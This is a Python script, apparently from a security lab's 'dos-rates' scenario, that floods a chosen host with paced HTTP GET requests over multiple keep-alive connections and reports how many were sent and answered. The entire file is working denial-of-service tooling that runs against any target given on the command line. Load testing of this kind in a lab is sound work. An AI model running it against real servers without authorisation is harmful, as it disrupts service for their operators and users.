#!/usr/bin/env python3
"""HTTP request flood at a paced rate: http_flood.py HOST PORT PATH RATE SECONDS [CONNS]

Keep-alive connections, each sending complete GET requests at RATE/CONNS per
second and reading the answers (the server's responses are real).  Used by
the lab's dos-rates scenario, where the request rate must be known (siege
cannot pace precisely).  Prints the requests sent and answered."""
import socket, sys, time, selectors

host, port, path, rate, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), float(sys.argv[5])
nconn = int(sys.argv[6]) if len(sys.argv) > 6 else 16
req = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: lab-http-flood/1\r\n"
       "Accept: */*\r\n\r\n").encode()
sel = selectors.DefaultSelector()
conns = []
for _ in range(nconn):
    s = socket.create_connection((host, port))
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ)
    conns.append(s)
sent = answered = 0
t0 = time.monotonic()
i = 0
while True:
    now = time.monotonic()
    el = now - t0
    if el >= secs:
        break
    due = int(el * rate)
    while sent < due:
        try:
            conns[i % nconn].send(req)
            sent += 1
        except (BlockingIOError, OSError):
            pass
        i += 1
    for key, _ in sel.select(timeout=0.0005):
        try:
            d = key.fileobj.recv(1 << 20)
            answered += d.count(b"HTTP/1.1 ")
        except (BlockingIOError, OSError):
            pass
end = time.monotonic() + 1
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.05):
        try:
            answered += key.fileobj.recv(1 << 20).count(b"HTTP/1.1 ")
        except (BlockingIOError, OSError):
            pass
for s in conns:
    s.close()
print(f"sent {sent} answered {answered} in {secs} s")
